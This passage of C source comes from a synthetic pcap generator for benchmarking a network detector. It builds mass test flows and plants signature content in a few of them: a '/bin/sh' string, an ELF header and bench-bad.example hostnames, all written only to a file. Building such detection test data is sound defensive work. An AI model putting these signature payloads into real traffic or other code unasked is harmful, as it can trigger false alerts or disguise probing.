	if (f->cls == BC_ELF) {
		n = bench_noise(g, out, 576, hdr);
		memcpy(out,
		       "\x7f"
		       "ELF\x02\x01\x01\x00",
		       8);
		return n;
	}
	if (f->app == BA_TLS) {
		snprintf(name, sizeof(name),
		         f->cls == BC_SNI ? "s%u.bench-bad.example" : "www%u.example.com", r);
		struct hello_opts o = {name, chance(g, 60), chance(g, 50), true, NULL, 0, SIZE_MAX};
		return tls_client_hello(g, out, 1400, &o, 576 - hdr);
	}
	if (f->app == BA_HTTP)
		return (size_t)snprintf((char *)out, 1400,
		                        "GET /i/%u.png HTTP/1.1\r\nHost: %s%u.%s\r\n"
		                        "User-Agent: Mozilla/5.0 (bench)\r\nAccept: */*\r\n\r\n",
		                        r, f->cls == BC_HOST ? "www" : "img", r % 97,
		                        f->cls == BC_HOST ? "bench-bad.example" : "example.net");
	return bench_noise(g, out, ip_size_of(g, bench_pick_size(st)), hdr);
}

static void bench_count(struct bench_stats *st, const struct bench_flow *f, size_t ip_size)
{
	enum size_class c = ip_size <= 64     ? SZ_SMALL
	                    : ip_size == 576  ? SZ_MEDIUM
	                    : ip_size == 1500 ? SZ_LARGE
	                                      : SZ_OTHER;
	st->size[c]++;
	if (f->foreign_end)
		st->foreign_end_packets++;
}

/* Packet k of a TCP flow of n: SYN, SYN-ACK, first payload, data..., FIN, FIN-ACK. */
static void bench_tcp_step(struct gen *g, struct bench_stats *st, struct bench_flow *f)
{
	struct tcp_conn *c = &f->conn;
	uint32_t k = f->sent, n = f->npkts;
	uint8_t *buf = g->text;
	size_t len = 0;
	bool from_client = true;
	uint8_t flags = TH_ACK | TH_PSH;
	if (k == 0 || k == 1) {
		from_client = k == 0;
		flags = k == 0 ? TH_SYN : TH_SYN | TH_ACK;
	} else if (k >= n - 2) {
		from_client = k == n - 2;
		flags = TH_FIN | TH_ACK;
	} else if (k == 2) {
		len = bench_first_tcp_payload(g, st, f, buf);
	} else {
		from_client = chance(g, 40);
		len = bench_noise(g, buf, ip_size_of(g, bench_pick_size(st)), bench_hdr(f));
	}
	int me = from_client ? 0 : 1;
	tcp_segment(g, c, from_client, c->seq[me], flags, buf, len);
	c->seq[me] += (uint32_t)len + ((flags & (TH_SYN | TH_FIN)) ? 1 : 0);
	bench_count(st, f, len + bench_hdr(f) + ((flags & TH_SYN) ? 4 : 0)); /* 4: MSS option */
}

static size_t bench_dns(const struct bench_flow *f, uint8_t *out, bool response)
{
	char name[64];
	uint8_t addr[4] = {93, 184, 216, 34};
	snprintf(name, sizeof(name), "host%u.example.org", f->conn.p.client.port);
	struct dns_msg m = {(uint16_t)f->conn.p.client.port, 1, name, response, addr, 4};
	return dns_message(out, 512, &m, false);
}

/* UDP and ICMP flows alternate client and server, sizes from the IMIX mix. */
static void bench_dgram_step(struct gen *g, struct bench_stats *st, struct bench_flow *f)
{
	uint32_t k = f->sent;
	bool from_client = k % 2 == 0;
	size_t len;
	if (f->app == BA_DNS && k < 2)
		len = bench_dns(f, g->text, k == 1);
	else
		len = bench_noise(g, g->text, ip_size_of(g, bench_pick_size(st)), bench_hdr(f));
	if (f->conn.p.proto == 17)
		udp_send(g, &f->conn.p, from_client, g->text, len);
	else
		icmp_send(g, &f->conn.p, !from_client, (uint16_t)(k / 2 + 1), g->text, len);
	bench_count(st, f, len + bench_hdr(f));
}

static void bench_step(struct gen *g, struct bench_stats *st, struct bench_flow *f)
{
	if (f->sent == 0 && ++st->open > st->max_open)
		st->max_open = st->open;
	if (f->conn.p.proto == 6)
		bench_tcp_step(g, st, f);
	else
		bench_dgram_step(g, st, f);
	if (++f->sent == f->npkts)
		st->open--;
}

static void shuffle(struct gen *g, uint32_t *v, uint32_t n)
{
	for (uint32_t i = n; i > 1; i--) {
		uint32_t j = rnd_below(g, i), t = v[i - 1];
		v[i - 1] = v[j];
		v[j] = t;
	}
}

/* Rounds in a fresh random order: every flow sends its k-th packet before any its (k+1)-th. */
static void bench_run(struct gen *g, struct bench_stats *st, struct bench_flow *flows,
                      uint32_t *active, uint32_t n)
{
	for (uint32_t i = 0; i < n; i++)
		active[i] = i;
	while (n > 0) {
		shuffle(g, active, n);
		uint32_t keep = 0;
		for (uint32_t i = 0; i < n; i++) {
			struct bench_flow *f = &flows[active[i]];
			bench_step(g, st, f);
			if (f->sent < f->npkts)
				active[keep++] = active[i];
		}
		n = keep;
	}
}

/* Random filler that certainly holds none of the bench signatures or names. */
static void bench_fill_noise(struct gen *g)
{
	do
		fill_random(g, g->noise, NOISE_LEN);
	while (memmem(g->noise, NOISE_LEN, "/bin/sh", 7) ||
	       memmem(g->noise, NOISE_LEN,
	              "\x7f"
	              "ELF",
	              4) ||
	       memmem(g->noise, NOISE_LEN, "bench-bad", 9));
}

static void bench_report(const struct gen *g, const struct bench_stats *st, uint32_t n)
{
	double p = g->packets ? (double)g->packets : 1, f = n ? n : 1;
	uint64_t sel = 0;
	for (int c = BC_IP; c < BC_COUNT; c++)
		sel += st->cls[c];
	fprintf(stderr,
	        "acd-pcapgen: bench max_concurrent_flows=%" PRIu64 " foreign_end_packets=%.1f%% "
	        "sizes: 40-64=%.1f%% 576=%.1f%% 1500=%.1f%% other=%.1f%% "
	        "flows: tcp=%" PRIu64 " udp=%" PRIu64 " icmp=%" PRIu64 "\n",
	        st->max_open, 100.0 * st->foreign_end_packets / p, 100.0 * st->size[0] / p,
	        100.0 * st->size[1] / p, 100.0 * st->size[2] / p, 100.0 * st->size[3] / p,
	        st->proto[0], st->proto[1], st->proto[2]);
	fprintf(stderr, "acd-pcapgen: bench selectable=%" PRIu64 " (%.2f%% of flows):", sel,
	        100.0 * sel / f);
	for (int c = BC_IP; c < BC_COUNT; c++)
		fprintf(stderr, " %s=%" PRIu64, bench_class_names[c], st->cls[c]);
	fprintf(stderr, "\n");
}

static int scenario_bench(struct gen *g)
{
	uint64_t packets = g->opt.packets ? g->opt.packets : 1000000;
	uint64_t nflows = g->opt.flows ? g->opt.flows : packets * 3 / 20 ? packets * 3 / 20 : 1;
	if (nflows == 0 || nflows > 50000000) {
		fprintf(stderr, "acd-pcapgen: --flows must be 1..50000000\n");
		return 2;
	}
	uint32_t n = (uint32_t)nflows;
	struct bench_stats st = {0};
	struct bench_flow *flows = calloc(n, sizeof(*flows));
	uint32_t *active = calloc(n, sizeof(*active));
	int rc = 2;
	if (!flows || !active) {
		fprintf(stderr, "acd-pcapgen: out of memory for %u flows\n", n);
		goto out;
	}
	g->gap_min_us = 0;
	g->gap_max_us = 2;
	bench_fill_noise(g);
	for (uint32_t i = 0; i < n; i++)
		bench_init_flow(g, &flows[i], &st);
	if (bench_plan_lengths(g, flows, n, packets) != 0)
		goto out;
	bench_run(g, &st, flows, active, n);
	g->flows = n;
	bench_report(g, &st, n);
	rc = 0;
out:
	free(flows);
	free(active);
	return rc;
}

/* ---- command line ------------------------------------------------------------------------- */

static void usage(FILE *to)
{
	fprintf(to,
	        "usage: acd-pcapgen --scenario canary|sample|bench --out FILE [--seed N]\n"
	        "                   [--packets N] [--flows N] [--canary STRING]\n"
	        "                   [--linktype en10mb|sll|sll2|raw]\n"
	        "  canary  every payload kind (HTTP, SMTP, FTP, SIP, DNS TXT, TLS, SSH, raw "
	        "TCP/UDP,\n"
	        "          ICMP, fragments, split/retransmitted/overlapping TCP, tunnels) carries "
	        "the\n"
	        "          canary (default " DEFAULT_CANARY "), never in DNS names, SNI, Host,\n"
	        "          User-Agent or method; --packets N repeats until N packets\n"
	        "  sample  --flows (default 300) DNS, TLS and HTTP flows, one name each, for peer\n"
	        "          agreement with tshark and nfdump\n"
	        "  bench   --packets (default 1000000) over --flows (default 15%% of packets), "
	        "all\n"
	        "          open at once; IMIX 7:4:1; 5%% of flows selectable: 1.5%% foreign end "
	        "in\n"
	        "          203.0.113.0/24 or 2001:db8:f:66::/64, 1.0%% TLS SNI and 1.0%% HTTP "
	        "Host\n"
	        "          under bench-bad.example, 1.0%% \"/bin/sh\", 0.5%% "
	        "\"\\x7fELF\\x02\\x01\\x01\"\n"
	        "          in the first payload\n");
}

static int parse_u64(const char *s, uint64_t *out)
{
	char *end;
	errno = 0;
	unsigned long long v = strtoull(s, &end, 10);
	if (errno || end == s || *end || s[0] == '-')
		return -1;
	*out = v;
	return 0;
}

static int parse_linktype(const char *s, int *dlt)
{
	static const struct {
		const char *name;
		int dlt;
	} types[] = {{"en10mb", DLT_EN10MB},
	             {"sll", DLT_LINUX_SLL},
	             {"sll2", DLT_LINUX_SLL2},
	             {"raw", DLT_RAW}};
	for (size_t i = 0; i < COUNT(types); i++)
		if (strcmp(s, types[i].name) == 0) {
			*dlt = types[i].dlt;
			return 0;
		}
	return -1;
}

static int parse_scenario(const char *s, enum scenario *sc)
{
	*sc = strcmp(s, "canary") == 0   ? SC_CANARY
	      : strcmp(s, "sample") == 0 ? SC_SAMPLE
	      : strcmp(s, "bench") == 0  ? SC_BENCH
	                                 : SC_NONE;
	return *sc == SC_NONE ? -1 : 0;
}

/* Returns 0, or 1 after --help, or -1 on a usage error (message printed). */
static int parse_args(int argc, char **argv, struct options *o)
{
	static const struct option longopts[] = {
	        {"scenario", required_argument, NULL, 's'},
	        {"out", required_argument, NULL, 'o'},
	        {"seed", required_argument, NULL, 'S'},
	        {"packets", required_argument, NULL, 'p'},
	        {"flows", required_argument, NULL, 'f'},
	        {"canary", required_argument, NULL, 'c'},
	        {"linktype", required_argument, NULL, 'l'},
	        {"help", no_argument, NULL, 'h'},
	        {NULL, 0, NULL, 0},
	};
	int ch, bad = 0;
	while ((ch = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (ch) {
		case 's':
			bad |= parse_scenario(optarg, &o->scenario);
			break;
		case 'o':
			o->out = optarg;
			break;
		case 'S':
			bad |= parse_u64(optarg, &o->seed);
			break;
		case 'p':
			bad |= parse_u64(optarg, &o->packets);
			break;
		case 'f':
			bad |= parse_u64(optarg, &o->flows);
			break;
		case 'c':
			o->canary = optarg;
			break;
		case 'l':
			bad |= parse_linktype(optarg, &o->dlt);
			break;
		case 'h':
			return 1;
		default:
			bad = -1;
		}
	}
	if (bad || optind != argc || o->scenario == SC_NONE || !o->out || !o->canary[0] ||
	    strlen(o->canary) > 200)
		return -1;
	return 0;
}

static int open_output(struct gen *g)
{
	g->pcap = pcap_open_dead(g->opt.dlt, 65535);
	if (!g->pcap)
		return -1;
	FILE *f = fopen(g->opt.out, "wb");
	if (!f) {
		fprintf(stderr, "acd-pcapgen: %s: %s\n", g->opt.out, strerror(errno));
		return -1;
	}
	setvbuf(f, NULL, _IOFBF, 1 << 20);
	g->dumper = pcap_dump_fopen(g->pcap, f);
	if (!g->dumper) {
		fprintf(stderr, "acd-pcapgen: %s: %s\n", g->opt.out, pcap_geterr(g->pcap));
		fclose(f);
		return -1;
	}
	return 0;
}

static int close_output(struct gen *g)
{
	int rc = 0;
	long bytes = pcap_dump_ftell(g->dumper);
	if (pcap_dump_flush(g->dumper) != 0) {
		fprintf(stderr, "acd-pcapgen: %s: write failed\n", g->opt.out);
		rc = 1;
	}
	pcap_dump_close(g->dumper);
	pcap_close(g->pcap);
	fprintf(stderr, "acd-pcapgen: wrote %s: packets=%" PRIu64 " flows=%" PRIu64 " bytes=%ld\n",
	        g->opt.out, g->packets, g->flows, bytes);
	return rc;
}

static uint64_t seed_state(uint64_t seed)
{
	uint64_t z = seed + 0x9E3779B97F4A7C15ULL; /* splitmix64: no seed gives a zero state */
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
	z ^= z >> 31;
	return z ? z : 1;
}

int main(int argc, char **argv)
{
	struct gen g = {0};
	g.opt = (struct options){.seed = 1, .canary = DEFAULT_CANARY, .dlt = DLT_EN10MB};
	int a = parse_args(argc, argv, &g.opt);
	if (a != 0) {
		usage(a > 0 ? stdout : stderr);
		return a > 0 ? 0 : 2;
	}
	g.rng = seed_state(g.opt.seed);
	g.ts_us = BASE_TIME_US;
	g.gap_min_us = 50;
	g.gap_max_us = 3000;
	if (open_output(&g) != 0)
		return 1;
	int rc = g.opt.scenario == SC_CANARY   ? scenario_canary(&g)
	         : g.opt.scenario == SC_SAMPLE ? scenario_sample(&g)
	                                       : scenario_bench(&g);
	if (close_output(&g) != 0 && rc == 0)
		rc = 1;
	return rc;
}
